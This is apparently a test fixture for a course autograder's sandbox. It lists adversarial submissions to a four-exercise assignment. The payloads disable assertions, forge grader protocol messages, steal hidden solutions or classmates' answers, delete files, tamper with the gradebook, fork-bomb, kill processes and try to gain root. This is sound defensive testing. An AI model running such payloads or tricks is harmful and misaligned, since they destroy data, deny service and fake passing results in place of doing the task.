"""Submissions that attack: what each writes in place of an answer, or into a cell of its own above the checks.

The assignment has four exercises and a check for each: `double` (numbers that only the hidden tests know), `total` (a
number that the check computes), `Square` (gradients), `refuse` (an error that must be raised). No attack solves one, so
none may earn a point.
"""

ASSIGNMENT = "01_small"

SOLUTIONS = {
    "double": """\
#| export
def double(x):
    ### BEGIN SOLUTION
    return 2 * np.asarray(x)
    ### END SOLUTION""",
    "total": """\
#| export
def total(x):
    ### BEGIN SOLUTION
    return sum(x)
    ### END SOLUTION""",
    "square": """\
#| export
class Square:
    name = "Square"

    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, grad):
        ### BEGIN SOLUTION
        return (2 * grad * self.x,)
        ### END SOLUTION""",
    "refuse": """\
#| export
def refuse(x):
    ### BEGIN SOLUTION
    raise ValueError(f"{x} is not allowed")
    ### END SOLUTION""",
}

CHECKS = {
    "check-double": """\
assert np.allclose(double([1.0, 2.0]), [2, 4]), f"expected [2, 4], got {double([1.0, 2.0])}"
### BEGIN HIDDEN TESTS
def hidden_tests():
    got = double([3.5, -17.25])
    assert np.shape(got) == (2,) and np.allclose(got, [7, -34.5]), f"got {got}"

hidden_tests()
### END HIDDEN TESTS""",
    "check-total": """\
x = [1, 10, 100]
assert total(x) == 111
### BEGIN HIDDEN TESTS
for n in (3, 5):
    numbers = list(range(n))
    assert total(numbers) == n * (n - 1) // 2, "the sum of 0 .. n - 1"
assert total([7]) == 7
### END HIDDEN TESTS""",
    "check-square": """\
print(f"{check_function(Square, np.array([1.0, -2.0])):.0e}")""",
    "check-refuse": """\
try:
    refuse(3)
except ValueError as error:
    assert "3" in str(error)
else:
    raise AssertionError("expected a ValueError")""",
}
HEAD = '#| default_exp small'
IMPORTS = """\
#| export
\"\"\"Four small things.\"\"\"
import numpy as np
"""
TOOLS = "from tinytorch.gradcheck import check_function"

WRONG = """
def double(x): return np.zeros(2)
def total(x): return 0
class Square:
    name = "Square"
    def forward(self, x): return x * x
    def backward(self, grad): return (grad,)
def refuse(x): return x
"""

IN_PYTHON = {
    "skips the cells": "import IPython\nget_ipython().run_cell = lambda *a, **k: None",
    "ends the process": WRONG + "import sys\nsys.exit(0)",
    "ends the process hard": "import os\nos._exit(0)",
    "ends the process when it is checked": "import os\ndef double(x): os._exit(0)",
    "says something at the end": WRONG + """
import atexit, os
def say():
    for fd in range(3, 20):
        try: os.write(fd, b'{"done": null}\\n' * 50)
        except OSError: pass
atexit.register(say)""",
    "transforms the input": WRONG + """
def without_asserts(lines):
    return [line.replace("assert ", "True or ") for line in lines]
get_ipython().input_transformers_cleanup.append(without_asserts)
get_ipython().input_transformers_post.append(without_asserts)""",
    "transforms the tree": WRONG + """
import ast
class Without(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Without())""",
    "replaces builtins": WRONG + """
import builtins
always = lambda *a, **k: True
for name in ("all", "any", "isinstance", "bool", "compile", "eval", "exec", "str"):
    setattr(builtins, name, always)""",
    "replaces exec alone": WRONG + "import builtins\nbuiltins.exec = lambda *a, **k: None",
    "hides AssertionError": WRONG + """
import builtins
class Harmless(BaseException):
    def __new__(cls, *a): return StopIteration()
builtins.AssertionError = Harmless""",
    "replaces NumPy's comparisons": WRONG + """
for name in ("allclose", "array_equal", "isclose", "abs", "asarray", "array"):
    setattr(np, name, lambda *a, **k: True)""",
    "replaces the inside of NumPy's comparisons": WRONG + """
np.allclose.__wrapped__.__code__ = (lambda *a, **k: True).__code__""",
    "has its own NumPy": WRONG + """
class Fake:
    def __getattr__(self, name): return lambda *a, **k: True
np = Fake()""",
    "has its own gradient check": WRONG + "check_function = lambda *a, **k: 0.0",
    "replaces the gradient check": WRONG + """
import tinytorch.gradcheck
tinytorch.gradcheck.check_function = tinytorch.gradcheck.compare_gradients = lambda *a, **k: 0.0
tinytorch.gradcheck.numerical_gradient = lambda f, x, c: np.zeros_like(x)""",
    "replaces the gradient check while it runs": WRONG + """
class Square(Square):
    def forward(self, x):
        import tinytorch.gradcheck
        tinytorch.gradcheck.compare_gradients = lambda *a, **k: 0.0
        return x * x""",
    "answers with what equals everything": """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): return np.array(True)
    def __getattr__(self, name): return lambda *a, **k: self
    def __iter__(self): return iter([])
def double(x): return Equal()
def total(x): return Equal()
class Square:
    name = "Square"
    def forward(self, x): return Equal()
    def backward(self, grad): return (Equal(),)
def refuse(x): return Equal()""",
    "answers with arrays that equal everything": WRONG + """
class Sly(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options): return np.zeros(2)
    def __array_function__(self, *a): return True
    def __eq__(self, other): return True
    def tolist(self): return Sly(2)
def double(x): return np.zeros(2).view(Sly)
def total(x): return np.zeros(2).view(Sly)
class Square(Square):
    def backward(self, grad): return (grad.view(Sly),)""",
    "jumps over the checks": WRONG + """
import sys
def trace(frame, event, argument):
    if "check" in frame.f_code.co_filename and event == "line":
        try: frame.f_lineno = frame.f_lineno + 1
        except Exception: pass
    return trace
def double(x):
    frame = sys._getframe(1)
    while frame:
        frame.f_trace = trace
        frame = frame.f_back
    sys.settrace(trace)
    return 0
total = double""",
    "redefines the hidden tests": WRONG + """
class Names(dict):
    def __setitem__(self, name, value): dict.__setitem__(self, name, (lambda: None) if "hidden" in name else value)
get_ipython().user_ns = Names(get_ipython().user_ns)""",
    "answers for the process": WRONG + """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Process":
        real = thing.ask
        def ask(number, *values):
            try: real(number, *([values[-1]] * len(values)))
            except AssertionError: pass
        type(thing).ask = lambda self, number, *values: ask(number, *values)""",
    "says that all is done": WRONG + """
import gc, os
def double(x):
    for fd in range(3, 20):
        try: os.write(fd, b'{"done": null}\\n' * 3)
        except OSError: pass
    return 0
refuse = Square = total = double""",
    "answers from a thread": WRONG + """
import json, os, threading, time
def answer():
    while True:
        for number in (-1, 0, 1, 2, 3):
            for fd in range(3, 20):
                line = json.dumps({"ask": number, "values": [True, True]}) + '\\n{"done": null}\\n'
                try: os.write(fd, line.encode())
                except OSError: pass
        time.sleep(0.01)
threading.Thread(target=answer, daemon=True).start()""",
    "sends what is no message": "import os\nfor fd in range(3, 20):\n"
    "    try: os.write(fd, b'[' * 100_000 + b'\\n')\n    except OSError: pass",
    "interrupts the check": WRONG + """
import signal
signal.signal(signal.SIGALRM, lambda *a: None)
def double(x): raise KeyboardInterrupt
def total(x): raise SystemExit(0)
def refuse(x): raise GeneratorExit""",
    "reads the solutions in the package": WRONG + """
import importlib, inspect
small = importlib.import_module("tinytorch.small")
double, total, Square, refuse = small.double, small.total, small.Square, small.refuse
assert "2 * np" in inspect.getsource(double)""",
}

ON_THE_MACHINE = {  # COURSE stands for the course's folder
    "reads the solutions in the course": WRONG + """
import os
for folder, _, files in os.walk("/"):
    for file in files:
        if file.endswith((".ipynb", ".json")) and not folder.startswith(("/proc", "/usr")):
            try: text = open(os.path.join(folder, file)).read()
            except OSError: continue
            if "2 * np.asarray(x)" in text:
                def double(x): return 2 * np.asarray(x)""",
    "reads the course by its name": WRONG + """
import json
cells = json.load(open("COURSE/source/01_small/01_small.ipynb"))["cells"]
for cell in cells: exec("".join(cell["source"]))""",
    "reads the neighbour's answers": WRONG + """
import glob, json
for path in glob.glob("COURSE/*/ann/*/*.ipynb") + glob.glob("/tmp/**/*.ipynb", recursive=True):
    for cell in json.load(open(path))["cells"]:
        try: exec("".join(cell["source"]))
        except Exception: pass""",
    "deletes another's submission": WRONG + "import shutil\nshutil.rmtree('COURSE/submitted/ann')",
    "deletes all that it can": WRONG + """
import os
for folder, folders, files in os.walk("/", topdown=False):
    for name in files:
        try: os.remove(os.path.join(folder, name))
        except OSError: pass""",
    "writes to the gradebook": WRONG + """
import sqlite3
book = sqlite3.connect("COURSE/gradebook.db")
book.execute("update grade set auto_score = 0")
book.commit()""",
    "writes outside of its folder": WRONG + """
import os, pathlib
for place in ("COURSE", "COURSE/submitted/ann", "/etc", "/usr/lib", "/var/tmp", "/home", "/course/tinytorch", os.sep):
    try: pathlib.Path(place, "attacked").write_text("x")
    except OSError: pass""",
    "changes the Python of the next": WRONG + """
import numpy, sysconfig, pathlib
for place in (sysconfig.get_path("purelib"), pathlib.Path(numpy.__file__).parent):
    try: pathlib.Path(place, "attacked.pth").write_text("import os; os._exit(0)")
    except OSError: pass""",
    "leaves a process behind": WRONG + """
import subprocess, sys
code = "import os, time; os.setsid(); os.fork() and os._exit(0); time.sleep(987)"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
import time; time.sleep(1)""",
    "ends other processes": WRONG + """
import os, signal
for pid in (-1, os.getppid(), *range(1, 5000)):
    try: pid == os.getpid() or os.kill(pid, signal.SIGKILL)
    except OSError: pass""",
    "uses the network": WRONG + """
import socket
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try: socket.create_connection(address, 2).send(b"attacked")
    except OSError: pass""",
    "becomes root": WRONG + """
import os
for attempt in (lambda: os.setuid(0), lambda: os.system("mount -t tmpfs x /mnt"), lambda: os.chroot("/tmp")):
    try: attempt()
    except OSError: pass
if os.getuid() == 0:
    def double(x): return 2 * np.asarray(x)""",
    "reads what the environment says": WRONG + """
import os
if "attacked" in str(os.environ) + open("/proc/1/environ").read():
    def double(x): return 2 * np.asarray(x)""",
    "starts processes without end": WRONG + """
import os, time
started = 0
try:
    while started < 1000:
        if os.fork() == 0:
            time.sleep(987)
        started += 1
except OSError: pass
if started >= 1000:
    def double(x): return 2 * np.asarray(x)""",
    "takes all memory": WRONG + """
taken = []
try:
    while len(taken) < 64: taken.append(np.ones(1 << 27))
    def double(x): return 2 * np.asarray(x)
except MemoryError: taken = []""",
    "takes all memory in parts": WRONG + """
import os, time
for _ in range(12):
    if os.fork() == 0:
        taken = np.ones(1 << 27)
        time.sleep(987)
time.sleep(20)
def double(x): return 2 * np.asarray(x)""",
    "fills the disk": WRONG + """
import os
written = 0
for place in ("/tmp", "/dev/shm", "/dev", os.sep):
    try:
        for number in range(80):
            with open(f"{place}/{number}", "wb") as file: written += file.write(bytes(1 << 24))
    except OSError: pass
if written > 1 << 30:
    def double(x): return 2 * np.asarray(x)""",
    "prints without end": WRONG + "for _ in range(3_000_000): print('attacked ' * 100)",
    "never ends": WRONG + """
while True:
    try:
        while True: pass
    except KeyboardInterrupt: pass""",
    "never ends when it is checked": """
def double(x):
    while True: pass
total = refuse = double""",
}
